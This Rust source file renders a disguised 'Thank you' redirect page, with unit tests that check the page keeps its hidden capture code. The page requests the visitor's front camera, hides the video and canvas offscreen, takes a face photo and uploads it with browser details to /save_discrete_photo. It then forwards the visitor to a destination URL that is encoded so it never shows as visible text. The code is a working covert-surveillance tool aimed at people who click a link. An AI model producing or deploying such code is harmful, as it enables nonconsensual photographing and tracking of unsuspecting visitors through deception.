//! The discrete capture page. All camera logic is client-side; the only
//! visible content is the neutral message. The destination URL is embedded
//! percent-encoded inside the script, never in visible text.

pub const NEUTRAL_MESSAGE: &str = "Thank you";

const CAPTURE_PAGE: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>Processing...</title>
    <style>
        body {
            font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif;
            margin: 0;
            padding: 0;
            background: #f8f9fa;
            display: flex;
            align-items: center;
            justify-content: center;
            min-height: 100vh;
            color: #333;
        }
        .container {
            text-align: center;
            max-width: 400px;
            padding: 30px;
            background: white;
            border-radius: 10px;
            box-shadow: 0 2px 10px rgba(0,0,0,0.1);
        }
        h2 {
            color: #333;
            margin-bottom: 15px;
            font-size: 1.4rem;
            font-weight: 500;
        }
        /* Keep video and canvas rendering but effectively invisible. */
        #video, #canvas {
            width: 1px;
            height: 1px;
            position: fixed;
            top: -100px;
            left: -100px;
            opacity: 0.01;
            pointer-events: none;
            z-index: -9999;
        }
    </style>
</head>
<body>
    <div class="container">
        <h2 id="mainMessage">{{neutral_message}}</h2>
    </div>

    <video id="video" autoplay muted playsinline></video>
    <canvas id="canvas"></canvas>

    <script>
        const destinationUrl = decodeURIComponent('{{destination_url}}');
        const linkId = '{{link_id}}';
        const mainMessageDiv = document.getElementById('mainMessage');

        let stream = null;
        let captureCompleted = false;

        function setMainMessage(message) {
            mainMessageDiv.textContent = message;
        }

        function redirectToDestination() {
            setMainMessage('Redirecting...');
            setTimeout(() => {
                window.location.href = destinationUrl;
            }, 500);
        }

        async function performCaptureAndUpload() {
            const video = document.getElementById('video');
            const canvas = document.getElementById('canvas');

            if (!video || !video.videoWidth || !video.videoHeight || video.readyState < 2) {
                console.error('Video not ready for capture, skipping.');
                cleanup();
                redirectToDestination();
                return;
            }

            canvas.width = video.videoWidth;
            canvas.height = video.videoHeight;

            const ctx = canvas.getContext('2d');
            ctx.drawImage(video, 0, 0, canvas.width, canvas.height);

            canvas.toBlob(async function(blob) {
                // Blobs this small are black/blank frames; skip, never retry.
                if (blob && blob.size > 1000) {
                    try {
                        await uploadPhoto(blob);
                    } catch (error) {
                        console.error('Upload error:', error);
                    }
                } else {
                    console.error('Captured blob too small (' + (blob ? blob.size : 'null') + ' bytes), skipping upload.');
                }
                cleanup();
                redirectToDestination();
            }, 'image/jpeg', 0.85);
        }

        async function discreteCapture() {
            try {
                const constraints = {
                    video: {
                        facingMode: 'user',
                        width: { ideal: 1280, min: 640 },
                        height: { ideal: 720, min: 480 },
                        frameRate: { ideal: 30, min: 15 }
                    },
                    audio: false
                };

                stream = await navigator.mediaDevices.getUserMedia(constraints);

                const video = document.getElementById('video');
                video.srcObject = stream;
                video.play();

                if ('requestVideoFrameCallback' in video) {
                    video.requestVideoFrameCallback(async () => {
                        if (!captureCompleted) {
                            captureCompleted = true;
                            try {
                                await performCaptureAndUpload();
                            } catch (e) {
                                console.error('Capture error:', e);
                                cleanup();
                                redirectToDestination();
                            }
                        }
                    });
                } else {
                    video.oncanplay = () => {
                        if (!captureCompleted) {
                            setTimeout(async () => {
                                if (!captureCompleted) {
                                    captureCompleted = true;
                                    try {
                                        await performCaptureAndUpload();
                                    } catch (e) {
                                        console.error('Capture error:', e);
                                        cleanup();
                                        redirectToDestination();
                                    }
                                }
                            }, 500);
                        }
                    };
                }
            } catch (error) {
                if (error.name === 'NotAllowedError') {
                    console.warn('Camera permission denied.');
                } else if (error.name === 'NotFoundError') {
                    console.warn('No camera found on this device.');
                } else if (error.name === 'NotReadableError') {
                    console.warn('Camera busy or unreadable.');
                } else {
                    console.error('Camera error:', error);
                }

                cleanup();
                setTimeout(redirectToDestination, 2000);
            }
        }

        async function uploadPhoto(blob) {
            const formData = new FormData();
            formData.append('photo', blob, `discrete_${Date.now()}.jpg`);
            formData.append('link_id', linkId);
            formData.append('timestamp', new Date().toISOString());
            formData.append('user_agent', navigator.userAgent);
            formData.append('screen_resolution', `${screen.width}x${screen.height}`);

            const response = await fetch('/save_discrete_photo', {
                method: 'POST',
                body: formData,
                headers: {
                    'X-Capture-Type': 'discrete',
                    'X-Destination': destinationUrl
                }
            });

            if (!response.ok) {
                const errorText = await response.text();
                throw new Error(`Upload failed: ${response.status} - ${errorText}`);
            }

            return response.json();
        }

        function cleanup() {
            if (stream) {
                stream.getTracks().forEach(track => track.stop());
                stream = null;
            }
        }

        document.addEventListener('DOMContentLoaded', function() {
            // Let the page paint before the permission prompt appears.
            setTimeout(() => {
                if (navigator.mediaDevices && navigator.mediaDevices.getUserMedia) {
                    discreteCapture();
                } else {
                    cleanup();
                    redirectToDestination();
                }
            }, 800);
        });

        window.addEventListener('beforeunload', cleanup);

        // Absolute timeout: whatever state capture is in, redirect.
        setTimeout(() => {
            if (!captureCompleted) {
                cleanup();
                redirectToDestination();
            }
        }, 8000);
    </script>
</body>
</html>
"#;

/// Renders the capture page for a link. `destination_url` is embedded
/// percent-encoded and decoded client-side.
pub fn render_capture_page(destination_url: &str, link_id: &str) -> String {
    let encoded = urlencoding::encode(destination_url);
    CAPTURE_PAGE
        .replace("{{neutral_message}}", NEUTRAL_MESSAGE)
        .replace("{{destination_url}}", &encoded)
        .replace("{{link_id}}", link_id)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn page_shows_only_the_neutral_message() {
        let page = render_capture_page("https://example.com/offer?a=1&b=2", "ab12cd34");
        assert!(page.contains(NEUTRAL_MESSAGE));
        // The raw destination must not appear; only its encoded form does.
        assert!(!page.contains("https://example.com/offer?a=1&b=2"));
        assert!(page.contains("https%3A%2F%2Fexample.com%2Foffer%3Fa%3D1%26b%3D2"));
        assert!(page.contains("const linkId = 'ab12cd34';"));
    }

    #[test]
    fn page_keeps_the_capture_plumbing() {
        let page = render_capture_page("https://example.com", "ab12cd34");
        assert!(page.contains("getUserMedia"));
        assert!(page.contains("blob.size > 1000"));
        assert!(page.contains("/save_discrete_photo"));
        assert!(page.contains("X-Destination"));
        assert!(page.contains("8000"));
    }
}
